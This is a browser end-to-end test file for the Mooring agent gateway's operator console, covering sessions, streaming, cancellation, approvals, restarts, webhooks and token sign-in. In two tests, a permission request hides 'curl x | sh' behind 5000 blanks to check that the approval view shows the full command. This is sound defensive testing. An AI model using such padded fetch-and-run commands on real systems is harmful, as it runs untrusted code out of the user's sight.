/**
 * The operator console in a real browser (Debian's chromium through playwright-core) against real
 * gateway processes: create a session and send a turn on the simulated agent, cancel a running
 * turn, answer a permission request with Allow, a kill -9 of the gateway mid-turn and a new
 * process on the same port (the page shows the restart and the turn's end without a reload), and
 * the token prompt with tokens set, the Webhooks view's deliveries and its Retry. Each view is saved as a screenshot under test/artifacts/.
 * The tests fail, not skip, when no browser starts.
 */
import { mkdir } from "node:fs/promises";
import { createServer } from "node:net";
import { type Browser, chromium, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { TestDatabase } from "../support/db.js";
import { call, eventually, type GatewayProcess, repoRoot } from "../support/gateway.js";
import { gatewayEnv, Processes, useProcessSuite } from "../support/lifecycle.js";
import { startReceiver } from "../support/webhook-receiver.js";

const CHROMIUM = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
const ARTIFACTS = `${repoRoot}test/artifacts`;
/** Generous: the machine running the tests may be loaded. */
const WAIT = { timeout: 60_000 };

const procs = new Processes();
let db: TestDatabase;
let workspace: string;
let browser: Browser;

useProcessSuite("mooring-console-", procs, (d, w) => {
  db = d;
  workspace = w;
});

beforeAll(async () => {
  await mkdir(ARTIFACTS, { recursive: true });
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: [
      "--no-sandbox",
      "--disable-gpu",
      "--disable-quic",
      "--no-first-run",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
    ],
  });
});
afterAll(async () => {
  await browser?.close();
});

/** A port free right now, so a restarted gateway can take the same one (the page keeps its origin). */
async function freePort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as { port: number };
  await new Promise((resolve) => server.close(resolve));
  return port;
}

async function startGateway(extra: Record<string, string> = {}): Promise<GatewayProcess> {
  const gw = await procs.spawn(gatewayEnv(db.url, extra));
  await gw.waitReady();
  return gw;
}

async function newPage(): Promise<Page> {
  const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
  const errors: string[] = [];
  page.on("pageerror", (err) => errors.push(String(err)));
  page.on("console", (m) => {
    if (m.type() === "error") errors.push(m.text());
  });
  (page as any).consoleErrors = errors;
  return page;
}

const turn = (page: Page, n: number) => page.getByRole("article", { name: `Turn ${n}`, exact: true });
/** The connection state shown in the header (live, reconnecting, polling). */
const connection = (page: Page, state: string) =>
  page.getByRole("status", { name: "Connection" }).locator(`[data-state="${state}"]`);
const turnStatus = (page: Page, n: number, status: string) =>
  turn(page, n)
    .getByTestId("turn-status")
    .filter({ hasText: new RegExp(`^${status}$`) });

/** From the Sessions view: create a session on the preselected agent (simulated); resolves on its page. */
async function createSession(page: Page): Promise<void> {
  await page.getByRole("link", { name: "Sessions" }).click();
  await page.getByLabel("Workspace", { exact: true }).fill(workspace);
  await page.getByRole("button", { name: "Create session" }).click();
  await page.getByRole("region", { name: "Session", exact: true }).waitFor(WAIT);
}

/** A new gateway and a page on a new session of it. */
async function sessionPage(): Promise<Page> {
  const gw = await startGateway();
  const page = await newPage();
  await page.goto(`${gw.url}/`);
  await createSession(page);
  return page;
}

async function send(page: Page, prompt: string): Promise<void> {
  await page.getByLabel("Prompt").fill(prompt);
  await page.getByRole("button", { name: "Send" }).click();
}

describe("without tokens", () => {
  it("serves the console at / with hashed, cached assets under 100 KB gzipped and a strict CSP", {
    timeout: 180_000,
  }, async () => {
    const gw = await startGateway();
    const root = await fetch(`${gw.url}/`, { redirect: "manual" });
    expect(root.status).toBe(302);
    expect(root.headers.get("location")).toBe("/console/");
    const index = await fetch(`${gw.url}/console/`, { headers: { "accept-encoding": "gzip" } });
    expect(index.status).toBe(200);
    expect(index.headers.get("cache-control")).toBe("no-cache");
    const csp = index.headers.get("content-security-policy") ?? "";
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain("script-src 'self'");
    expect(csp).not.toContain("unsafe");
    const html = await index.text();
    const assets = [...html.matchAll(/(?:src|href)="([^"]+-[A-Z0-9]{8}\.(?:js|css))"/g)].map((m) => m[1]);
    expect(assets.length).toBe(2);
    // What the first load transfers: index.html and each asset as sent gzip-compressed.
    let gzipped = 0;
    for (const path of ["index.html", ...assets]) {
      const res = await fetch(`${gw.url}/console/${path}`, { headers: { "accept-encoding": "gzip" } });
      expect(res.status, path).toBe(200);
      expect(res.headers.get("content-encoding"), path).toBe("gzip");
      if (path !== "index.html")
        expect(res.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
      // Node's fetch decodes the body; the wire size is content-length (static files are not chunked).
      gzipped += Number(res.headers.get("content-length"));
    }
    expect(gzipped).toBeGreaterThan(1000);
    expect(gzipped).toBeLessThan(100 * 1024);
    // The compressed twins and the build stamp are not served by their own names.
    expect((await fetch(`${gw.url}/console/${assets[0]}.gz`)).status).toBe(404);
    expect((await fetch(`${gw.url}/console/.console-build.json`)).status).toBe(404);
  });

  it("creates a session, streams a turn to completed, cancels one, answers an approval with Allow", {
    timeout: 300_000,
  }, async () => {
    const gw = await startGateway();
    const page = await newPage();
    await page.goto(`${gw.url}/`);
    await page.getByRole("region", { name: "Gate" }).getByText("Active").waitFor(WAIT);
    await connection(page, "live").waitFor(WAIT);
    await page.screenshot({ path: `${ARTIFACTS}/console-gate.png` });

    await createSession(page);
    await send(page, "[deltas 3] [tool 3000] [tokens 84000]");
    await turn(page, 1).getByText("chunk 1 chunk 2 chunk 3").waitFor(WAIT);
    await turnStatus(page, 1, "completed").waitFor(WAIT);
    await turn(page, 1).getByText("simulated_command").click();
    await turn(page, 1).getByRole("button", { name: "Full payload" }).waitFor(WAIT);

    await send(page, "[deltas 1] [hang]");
    await turn(page, 2).getByText("chunk 1").waitFor(WAIT);
    await turnStatus(page, 2, "running").waitFor(WAIT);
    await turn(page, 2).getByRole("button", { name: "Cancel" }).click();
    await turnStatus(page, 2, "cancelled").waitFor(WAIT);

    await send(page, "[ask deploy]");
    await turn(page, 3).getByRole("button", { name: "Deny" }).waitFor(WAIT);
    await page.screenshot({ path: `${ARTIFACTS}/console-approval.png` });
    await turn(page, 3).getByRole("button", { name: "Allow", exact: true }).click();
    await turn(page, 3).getByText("allowed deploy").waitFor(WAIT);
    await turnStatus(page, 3, "completed").waitFor(WAIT);
    await page.screenshot({ path: `${ARTIFACTS}/console-session.png`, fullPage: true });

    // What the page showed is what the gateway holds.
    const tasks = await call(gw.url, "GET", "/v1/tasks?limit=10");
    expect(tasks.body.items.map((t: any) => t.status).sort()).toEqual([
      "cancelled",
      "completed",
      "completed",
    ]);

    await page.getByRole("link", { name: "Sessions" }).click();
    await page
      .getByRole("region", { name: "Sessions" })
      .getByRole("cell", { name: "simulated" })
      .first()
      .waitFor(WAIT);
    await page.screenshot({ path: `${ARTIFACTS}/console-sessions.png` });
    await page.getByRole("link", { name: "Tasks" }).click();
    await page.getByRole("region", { name: "Tasks" }).getByRole("cell", { name: "cancelled" }).waitFor(WAIT);
    await page.screenshot({ path: `${ARTIFACTS}/console-tasks.png` });
    await page.getByRole("region", { name: "Tasks" }).getByRole("link").first().click();
    await page.getByRole("region", { name: "Events" }).getByText("task.queued").waitFor(WAIT);
    await page.screenshot({ path: `${ARTIFACTS}/console-task.png` });
    await page.getByRole("link", { name: "Instances" }).click();
    await page.getByRole("region", { name: "Instances" }).getByText("this one").waitFor(WAIT);
    await page.screenshot({ path: `${ARTIFACTS}/console-instances.png` });
    expect((page as any).consoleErrors).toEqual([]);
    await page.close();
  });

  it("shows a padded command whole, its tail included, before Allow can be clicked; an oversized one is denied", {
    timeout: 300_000,
  }, async () => {
    const gw = await startGateway();
    const page = await newPage();
    await page.goto(`${gw.url}/`);
    await createSession(page);
    // Every moment Allow is enabled, the input the request shows then (a MutationObserver runs
    // before the page can paint or take a click).
    await page.evaluate(`(() => {
      window.__allowEnabledWith = [];
      new MutationObserver(() => {
        for (const section of document.querySelectorAll("section.permission")) {
          const allow = [...section.querySelectorAll("button")].find((b) => b.textContent === "Allow");
          if (allow && !allow.disabled) window.__allowEnabledWith.push(section.querySelector("pre")?.textContent ?? "");
        }
      }).observe(document.body, { subtree: true, childList: true, attributes: true, characterData: true });
    })()`);
    await send(page, "[askpadded 5000]");
    const allow = turn(page, 1).getByRole("button", { name: "Allow", exact: true });
    await allow.waitFor(WAIT);
    // Polled from here (CDP evaluation): waitForFunction's polling evaluates a string in the page,
    // which the console's CSP (no unsafe-eval) refuses.
    await expect
      .poll(() => page.evaluate("window.__allowEnabledWith.length") as Promise<number>, {
        timeout: WAIT.timeout,
      })
      .toBeGreaterThan(0);
    const seen = (await page.evaluate("window.__allowEnabledWith")) as string[];
    const whole = '"command": "ls⟨5000 blanks⟩&& curl x | sh"';
    for (const text of seen) expect(text).toContain(whole);
    expect(await turn(page, 1).getByLabel("Tool input", { exact: true }).textContent()).toContain(whole);
    // The stream's preview was cut, and the page says so.
    const bytes = Buffer.byteLength(JSON.stringify({ command: `ls${" ".repeat(5000)}&& curl x | sh` }));
    await turn(page, 1)
      .getByRole("note")
      .getByText(`The stream sent a preview of this input; it is shown whole (${bytes} bytes).`)
      .waitFor(WAIT);
    await page.screenshot({ path: `${ARTIFACTS}/console-approval-padded.png` });
    await allow.click();
    await turn(page, 1).getByText("allowed bash").waitFor(WAIT);
    await turnStatus(page, 1, "completed").waitFor(WAIT);

    // Above MOORING_PERMISSION_INPUT_MAX_BYTES: the gateway's refusal and its reason, no Allow.
    await send(page, "[askpadded 300000]");
    await turnStatus(page, 2, "completed").waitFor(WAIT);
    await turn(page, 2).getByText("(by gateway): The tool's input is").waitFor(WAIT);
    expect(await turn(page, 2).getByRole("button", { name: "Allow", exact: true }).count()).toBe(0);
    expect(
      ((await page.evaluate("window.__allowEnabledWith")) as string[]).every((t) => t.includes(whole)),
    ).toBe(true);
    expect((page as any).consoleErrors).toEqual([]);
    await page.close();
  });

  it("steers a running turn from its steer box: the input shows in the turn and the agent answers it", {
    timeout: 300_000,
  }, async () => {
    const page = await sessionPage();
    await send(page, "[input]");
    await turnStatus(page, 1, "running").waitFor(WAIT);
    await turn(page, 1).getByLabel("Steer input").fill("go left");
    await turn(page, 1).getByRole("button", { name: "Steer" }).click();
    await turn(page, 1).getByTestId("turn-input").filter({ hasText: "Steered: go left" }).waitFor(WAIT);
    await turn(page, 1).getByText("steered go left").waitFor(WAIT);
    await turnStatus(page, 1, "completed").waitFor(WAIT);
    // No steer box once the turn ended.
    expect(await turn(page, 1).getByRole("button", { name: "Steer" }).count()).toBe(0);
    expect((page as any).consoleErrors).toEqual([]);
    await page.close();
  });

  it("rolls back the last turn and forks from a turn", { timeout: 300_000 }, async () => {
    const page = await sessionPage();
    page.on("dialog", (dialog) => void dialog.accept());
    await send(page, "alpha");
    await turnStatus(page, 1, "completed").waitFor(WAIT);
    await send(page, "bravo");
    await turnStatus(page, 2, "completed").waitFor(WAIT);
    await page.getByRole("button", { name: "Roll back last turn" }).click();
    await turn(page, 2).getByText("rolled back", { exact: true }).waitFor(WAIT);
    expect(await turn(page, 1).getByText("rolled back", { exact: true }).count()).toBe(0);
    // A rolled-back turn is no fork point; a kept one is.
    expect(await turn(page, 2).getByRole("button", { name: "Fork from this turn" }).count()).toBe(0);
    await turn(page, 1).getByRole("button", { name: "Fork from this turn" }).click();
    await page
      .getByRole("region", { name: "Session", exact: true })
      .getByText("Forked from", { exact: true })
      .waitFor(WAIT);
    await turn(page, 1).getByText("alpha", { exact: true }).waitFor(WAIT);
    expect(await turn(page, 2).count()).toBe(0);
    expect((page as any).consoleErrors).toEqual([]);
    await page.close();
  });

  it("shows a kill -9 of the gateway mid-turn, the restart and the turn's end, without a reload", {
    timeout: 300_000,
  }, async () => {
    const port = String(await freePort());
    const first = await startGateway({ PORT: port });
    const page = await newPage();
    await page.goto(`${first.url}/console/`);
    await createSession(page);
    // Set on this document: still there afterwards means the page was never reloaded.
    await page.evaluate("window.__sameDocument = true");
    await send(page, "[deltas 2] [hang]");
    await turn(page, 1).getByText("chunk 1 chunk 2").waitFor(WAIT);
    await turnStatus(page, 1, "running").waitFor(WAIT);

    first.kill("SIGKILL");
    await first.exited;
    await connection(page, "reconnecting").waitFor(WAIT);
    const second = await startGateway({ PORT: port });
    expect(second.url).toBe(first.url);

    await page.getByRole("status", { name: "Connection" }).getByText("Gateway restarted").waitFor(WAIT);
    await turnStatus(page, 1, "interrupted").waitFor(WAIT);
    await connection(page, "live").waitFor(WAIT);
    expect(await page.evaluate("window.__sameDocument")).toBe(true);
    await page.screenshot({ path: `${ARTIFACTS}/console-restart.png`, fullPage: true });

    // And the page goes on working against the new process.
    await send(page, "[deltas 2]");
    await turnStatus(page, 2, "completed").waitFor(WAIT);
    await page.close();
  });
});

describe("a newcomer's first use", () => {
  it("offers the registered agents in a select with the first preselected: Create works once a workspace is typed", {
    timeout: 180_000,
  }, async () => {
    const gw = await startGateway({ MOORING_AGENTS: JSON.stringify({ helper: { driver: "simulated" } }) });
    const page = await newPage();
    await page.goto(`${gw.url}/console/#/sessions`);
    const agent = page.getByLabel("Agent", { exact: true });
    await agent.locator("option", { hasText: "helper" }).waitFor({ state: "attached", ...WAIT });
    expect(await agent.locator("option").allTextContents()).toEqual([
      "simulated",
      "claude-code",
      "helper (simulated)",
    ]);
    expect(await agent.inputValue()).toBe("simulated");
    await page.getByLabel("Workspace", { exact: true }).fill(workspace);
    await page.getByRole("button", { name: "Create session" }).click();
    const facts = page.getByRole("region", { name: "Session", exact: true });
    await facts.locator("dt:text-is('Agent') + dd").getByText("simulated", { exact: true }).waitFor(WAIT);
    // Another agent is one choice away.
    await page.getByRole("link", { name: "Sessions" }).click();
    await agent.selectOption("helper");
    await page.getByLabel("Workspace", { exact: true }).fill(workspace);
    await page.getByRole("button", { name: "Create session" }).click();
    await facts.locator("dt:text-is('Agent') + dd").getByText("helper", { exact: true }).waitFor(WAIT);
    expect((page as any).consoleErrors).toEqual([]);
    await page.close();
  });

  it("numbers turns from 1 in Tasks as on the session page, shows durations, and renders the task page", {
    timeout: 180_000,
  }, async () => {
    const page = await sessionPage();
    await send(page, "[deltas 1] [tokens 1200]");
    await turnStatus(page, 1, "completed").waitFor(WAIT);
    await send(page, "[fail CONTEXT_TOO_LARGE]");
    await turnStatus(page, 2, "failed").waitFor(WAIT);

    await page.getByRole("link", { name: "Tasks" }).click();
    const tasks = page.getByRole("region", { name: "Tasks" });
    const headers = await tasks.getByRole("columnheader").allTextContents();
    const column = (name: string) => headers.indexOf(name);
    expect(column("Queued for")).toBeGreaterThan(0);
    expect(column("Ran for")).toBeGreaterThan(0);
    const completed = tasks.getByRole("row").filter({ has: page.getByText("completed", { exact: true }) });
    const failed = tasks.getByRole("row").filter({ has: page.getByText("failed", { exact: true }) });
    await failed.waitFor(WAIT);
    expect(await completed.getByRole("cell").nth(column("Turn")).textContent()).toBe("1");
    expect(await failed.getByRole("cell").nth(column("Turn")).textContent()).toBe("2");
    for (const name of ["Queued for", "Ran for"]) {
      expect(await completed.getByRole("cell").nth(column(name)).textContent()).toMatch(/^\d+\.\d s$/);
    }
    await page.screenshot({ path: `${ARTIFACTS}/console-tasks-durations.png` });

    // The task page: its facts in words, not a JSON dump.
    await completed.getByRole("link").first().click();
    const task = page.getByRole("region", { name: "Task", exact: true });
    await task.getByText("turn 1", { exact: false }).waitFor(WAIT);
    const fact = (name: string) => task.locator(`dt:text-is('${name}') + dd`);
    expect(await fact("Queued for").textContent()).toMatch(/^\d+\.\d s$/);
    expect(await fact("Ran for").textContent()).toMatch(/^\d+\.\d s$/);
    expect(await fact("Usage").textContent()).toContain("1200 tokens in");
    expect(await fact("Finished").textContent()).not.toBe("—");
    await fact("Session").getByRole("link").waitFor(WAIT);
    expect(await task.textContent()).toContain("[deltas 1] [tokens 1200]");
    expect(await task.textContent()).not.toContain('"sessionId"');
    await page.getByRole("region", { name: "Events" }).getByText("task.completed").waitFor(WAIT);
    await page.screenshot({ path: `${ARTIFACTS}/console-task-rendered.png`, fullPage: true });

    await page.getByRole("link", { name: "Tasks" }).click();
    await failed.getByRole("link").first().click();
    await fact("Error").getByText("CONTEXT_TOO_LARGE").waitFor(WAIT);
    expect(await fact("Error").textContent()).toContain("The simulated agent failed as asked");
    expect(await fact("Ran for").textContent()).toMatch(/^\d+\.\d s$/);
    expect((page as any).consoleErrors).toEqual([]);
    await page.close();
  });

  it("keeps the context meter at its last known value after a turn that reports no tokens", {
    timeout: 180_000,
  }, async () => {
    const page = await sessionPage();
    const facts = page.getByRole("region", { name: "Session", exact: true });
    await send(page, "[tokens 84000]");
    await turnStatus(page, 1, "completed").waitFor(WAIT);
    await facts.getByText("42% of 200000 tokens").waitFor(WAIT);
    await send(page, "[deltas 1]");
    await turnStatus(page, 2, "completed").waitFor(WAIT);
    // A fresh load after the second turn ended reads the session as the gateway holds it.
    await page.reload();
    await turnStatus(page, 2, "completed").waitFor(WAIT);
    expect(await facts.locator("dt:text-is('Context') + dd").textContent()).toContain("42% of 200000 tokens");
    expect(await facts.locator("meter").evaluate((m: HTMLMeterElement) => m.value)).toBe(42);
    // Its row in the list says the same (other tests' sessions share this database).
    const id = new URL(page.url()).hash.split("/")[2].slice(0, 8);
    await page.getByRole("link", { name: "Sessions" }).click();
    const row = page
      .getByRole("region", { name: "Sessions" })
      .getByRole("row")
      .filter({ has: page.getByRole("link", { name: id }) });
    await row.getByRole("cell", { name: "42%" }).waitFor(WAIT);
    expect((page as any).consoleErrors).toEqual([]);
    await page.close();
  });
});

describe("webhooks", () => {
  it("lists deliveries with status, attempts, last status code and next attempt; Retry sends one again", {
    timeout: 300_000,
  }, async () => {
    const secret = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";
    let down = true;
    const receiver = await startReceiver(secret, () => (down ? 500 : 200));
    try {
      // Two failed attempts, then the next one scheduled ten minutes out: pending, with a time.
      const gw = await startGateway({
        MOORING_WEBHOOKS: JSON.stringify([{ url: receiver.url, secret, events: ["task.completed"] }]),
        MOORING_WEBHOOK_POLL_MS: "100",
        MOORING_WEBHOOK_RETRY_SCHEDULE_MS: "200,600000",
      });
      const session = await call(gw.url, "POST", "/v1/sessions", { workspace, agent: "simulated" });
      const submitted = await call(gw.url, "POST", `/v1/sessions/${session.body.id}/turns`, {
        prompt: "hello",
      });
      expect(submitted.status).toBe(202);
      const [{ id }] = await eventually(async () => {
        const rows = await db.sql<{ id: string }[]>`
          select id from webhook_deliveries where session_id = ${session.body.id} and attempts = 2`;
        return rows.length === 1 ? rows : null;
      }, 60_000);

      const page = await newPage();
      await page.goto(`${gw.url}/`);
      await page.getByRole("link", { name: "Webhooks" }).click();
      const view = page.getByRole("region", { name: "Webhooks" });
      const headers = await view.getByRole("columnheader").allTextContents();
      const cell = (name: string) => row.getByRole("cell").nth(headers.indexOf(name));
      const row = view.locator(`tr[data-delivery="${id}"]`);
      await row.waitFor(WAIT);
      expect(await cell("Tenant").textContent()).toBe("default");
      expect(await cell("Event").textContent()).toBe("task.completed");
      expect(await cell("Status").textContent()).toBe("pending");
      expect(await cell("Attempts").textContent()).toBe("2");
      expect(await cell("Last status").textContent()).toBe("500");
      expect(await cell("Next attempt").textContent()).toMatch(/^in \d+ min \d+ s$/);
      // The receiver's query (a token of its own) is not shown.
      expect(await cell("URL").textContent()).not.toContain("receiver-secret");
      await page.screenshot({ path: `${ARTIFACTS}/console-webhooks.png` });

      down = false;
      await row.getByRole("button", { name: "Retry" }).click();
      await cell("Status").getByText("delivered", { exact: true }).waitFor(WAIT);
      expect(await cell("Attempts").textContent()).toBe("3");
      expect(await cell("Last status").textContent()).toBe("200");
      expect(await cell("Next attempt").textContent()).toBe("—");
      expect(receiver.unique.map((r) => r.id)).toEqual([id]);
      expect(receiver.badSignatures).toBe(0);

      // The status filter asks the gateway: no failed delivery here.
      await view.getByLabel("Status").selectOption("failed");
      await view.getByText("No deliveries match.").waitFor(WAIT);
      expect((page as any).consoleErrors).toEqual([]);
      await page.close();
    } finally {
      await receiver.close();
    }
  });
});

describe("with tokens", () => {
  it("asks for a token once: a wrong one is refused, the right one works, streams included", {
    timeout: 300_000,
  }, async () => {
    const gw = await startGateway({ MOORING_API_TOKENS: "console-secret,other" });
    const page = await newPage();
    await page.goto(`${gw.url}/`);
    const token = page.getByLabel("Token");
    // Seen once in CI under load: no token form within a minute. Say what the page showed instead.
    await token.waitFor(WAIT).catch(async (err) => {
      const shown = await page
        .locator("body")
        .textContent()
        .catch(() => "(unreadable)");
      throw new Error(
        `${(err as Error).message}\nthe page showed: ${(shown ?? "").slice(0, 600)}\nconsole errors: ${JSON.stringify((page as any).consoleErrors)}`,
      );
    });
    await token.fill("wrong-token");
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("alert").getByText("refused").waitFor(WAIT);
    await page.screenshot({ path: `${ARTIFACTS}/console-token.png` });
    await token.fill("console-secret");
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("region", { name: "Gate" }).getByText("Active").waitFor(WAIT);
    expect(await page.evaluate("sessionStorage.getItem('mooring.token')")).toBe("console-secret");

    await createSession(page);
    await send(page, "[deltas 3]");
    await turn(page, 1).getByText("chunk 1 chunk 2 chunk 3").waitFor(WAIT);
    await turnStatus(page, 1, "completed").waitFor(WAIT);
    // The turn streamed (not only polled): the WebSocket carried the token as ?access_token=.
    const sockets = logLinesWith(gw, "/v1/ws");
    expect(sockets.length).toBeGreaterThan(0);

    // A reload in the same tab keeps the token: no second prompt.
    await page.reload();
    await page.getByRole("region", { name: "Session", exact: true }).waitFor(WAIT);
    expect(await page.getByLabel("Token").count()).toBe(0);
    await page.close();
  });
});

describe("with tokens, payloads", () => {
  it("fetches payloads with the Authorization header and shows them in the page: no URL carries the token", {
    timeout: 300_000,
  }, async () => {
    const gw = await startGateway({ MOORING_API_TOKENS: "console-secret" });
    const page = await newPage();
    const requests: { url: string; authorization: string | undefined }[] = [];
    page.on("request", (r) => requests.push({ url: r.url(), authorization: r.headers().authorization }));
    await page.goto(`${gw.url}/`);
    await page.getByLabel("Token").fill("console-secret");
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("region", { name: "Gate" }).getByText("Active").waitFor(WAIT);
    await createSession(page);

    await send(page, "[tool 3000]");
    await turnStatus(page, 1, "completed").waitFor(WAIT);
    await turn(page, 1).getByText("simulated_command").click();
    await turn(page, 1).getByRole("button", { name: "Full payload" }).click();
    const shown = turn(page, 1).getByLabel("Full payload", { exact: true });
    await shown.waitFor(WAIT);
    expect(await shown.textContent()).toBe("x".repeat(3000));

    // A padded approval: its whole input is fetched the same way.
    await send(page, "[askpadded 5000]");
    const allow = turn(page, 2).getByRole("button", { name: "Allow", exact: true });
    await turn(page, 2).getByLabel("Tool input", { exact: true }).getByText("&& curl x | sh").waitFor(WAIT);
    await allow.click();
    await turnStatus(page, 2, "completed").waitFor(WAIT);

    const payloads = requests.filter((r) => r.url.includes("/payload"));
    expect(payloads.length).toBe(2);
    for (const r of payloads) expect(r.authorization).toBe("Bearer console-secret");
    expect(requests.length).toBeGreaterThan(payloads.length);
    expect(requests.filter((r) => r.url.includes("access_token")).map((r) => r.url)).toEqual([]);
    expect(requests.filter((r) => r.url.includes("console-secret")).map((r) => r.url)).toEqual([]);
    // The page never opened another tab (a payload used to open in one, token in its URL).
    expect(page.context().pages()).toEqual([page]);
    await page.close();
  });
});

function logLinesWith(gw: GatewayProcess, text: string): string[] {
  return gw
    .output()
    .split("\n")
    .filter((l) => l.includes(text));
}
